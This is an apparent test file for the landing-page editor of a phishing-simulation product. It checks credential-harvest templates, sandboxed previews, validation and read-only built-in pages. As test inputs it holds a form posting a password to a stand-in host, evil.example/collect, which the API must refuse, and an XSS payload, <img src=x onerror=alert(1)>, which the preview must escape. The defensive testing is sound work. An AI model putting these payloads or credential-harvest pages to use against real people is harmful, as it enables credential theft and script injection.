import { fireEvent, screen, waitFor } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { describe, expect, it } from "vitest";
import { sampleTenant } from "../../../../storybook/fakeApi";
import { renderScreen } from "../../../../test/renderShell";
import { sampleLandingPages } from "../samples";
import { recordingRoutes } from "../testRoutes";
import { LandingPageEditor, type LandingPageEditorProps } from "./LandingPageEditor";

const tenantId = sampleTenant.id;
const phished = sampleLandingPages[2]!;
const ownForm = sampleLandingPages[4]!;
const other = sampleLandingPages[5]!;

function setup(props: LandingPageEditorProps = {}, extra = {}) {
  const { routes, writes } = recordingRoutes(extra);
  return { ...renderScreen(<LandingPageEditor {...props} />, { routes, tenantId }), writes };
}

async function nameField() {
  const name = await screen.findByRole("textbox", { name: /^Name/ });
  await waitFor(() => expect(name).toBeEnabled());
  return name;
}

const frame = async () => (await screen.findByTitle("Preview of the landing page")) as HTMLIFrameElement;
/** What the preview frame holds now. */
const frameHtml = (frame: HTMLIFrameElement) => frame.contentDocument?.documentElement.outerHTML ?? "";

describe("LandingPageEditor", () => {
  it("a new credential-harvest page starts from a form posting to {{.URL}}, previewed in a sandbox", async () => {
    setup({ initialType: "CredentialHarvest" });
    await nameField();
    const html = screen.getByRole("textbox", { name: /^HTML/ }) as HTMLTextAreaElement;
    expect(html.value).toContain('action="{{.URL}}"');
    const preview = await frame();
    expect(preview.getAttribute("sandbox")).toBe("allow-same-origin");
    await waitFor(() => expect(frameHtml(preview)).toContain('<input type="password" name="password"'));
  });

  it("checks before any call: name, language, a credential form with a form, an Other page with its message", async () => {
    const { writes } = setup({ initialType: "CredentialHarvest" });
    await nameField();
    fireEvent.change(screen.getByRole("textbox", { name: /^HTML/ }), { target: { value: "<p>No form here</p>" } });
    await userEvent.click(screen.getByRole("button", { name: "Save landing page" }));
    expect(screen.getByText("Name is required")).toBeInTheDocument();
    expect(screen.getByText("Language is required")).toBeInTheDocument();
    expect(screen.getByText("A credential-harvest page needs a form with at least one field")).toBeInTheDocument();
    await userEvent.selectOptions(screen.getByRole("combobox", { name: /^Type/ }), "Other");
    await userEvent.click(screen.getByRole("button", { name: "Save landing page" }));
    expect(screen.getByText("Custom message is required")).toBeInTheDocument();
    expect(writes).toEqual([]);
  });

  it("shows the API's refusal of a form posting elsewhere at the HTML, naming it", async () => {
    const { writes } = setup({ landingPageId: ownForm.id });
    await nameField();
    fireEvent.change(screen.getByRole("textbox", { name: /^HTML/ }), {
      target: { value: '<form action="https://evil.example/collect"><input name="password"></form>' },
    });
    await userEvent.click(screen.getByRole("button", { name: "Save landing page" }));
    expect(
      await screen.findByText("A form may only submit to the landing page: leave its action empty or use {{.URL}}"),
    ).toBeInTheDocument();
    expect(writes.map((w) => w.route)).toEqual(["PUT /api/v1/phishing/landing-pages/*"]);
  });

  it("saves an Other page's custom message; an empty HTML goes as null (the built-in page)", async () => {
    const { writes } = setup({ landingPageId: other.id });
    await nameField();
    const message = screen.getByRole("textbox", { name: /^Custom message/ });
    fireEvent.change(message, { target: { value: "A drill by the security team." } });
    const preview = await frame();
    await waitFor(() => expect(frameHtml(preview)).toContain("A drill by the security team."));
    await userEvent.click(screen.getByRole("button", { name: "Save landing page" }));
    expect(await screen.findByText("Landing page updated")).toBeInTheDocument();
    expect(writes[0]?.body).toEqual({
      name: other.name,
      type: "Other",
      language: "En",
      html: null,
      customMessage: "A drill by the security team.",
    });
  });

  it("a common feedback page without HTML is read-only and previews the built-in page", async () => {
    setup({ landingPageId: phished.id });
    await screen.findByRole("heading", { level: 1, name: phished.name });
    expect(await screen.findByRole("textbox", { name: /^Name/ })).toBeDisabled();
    expect(screen.queryByRole("button", { name: "Save landing page" })).toBeNull();
    expect(frameHtml(await frame())).toContain("This was a phishing simulation run by your organisation.");
    expect(screen.getByText("The built-in page of this type, as targets see it.")).toBeInTheDocument();
  });

  it("escapes a custom message in the preview: it is text, not markup", async () => {
    setup({ landingPageId: other.id });
    await nameField();
    fireEvent.change(screen.getByRole("textbox", { name: /^Custom message/ }), {
      target: { value: "<img src=x onerror=alert(1)>" },
    });
    const preview = await frame();
    await waitFor(() => expect(frameHtml(preview)).toContain("&lt;img src=x onerror=alert(1)&gt;"));
  });
});
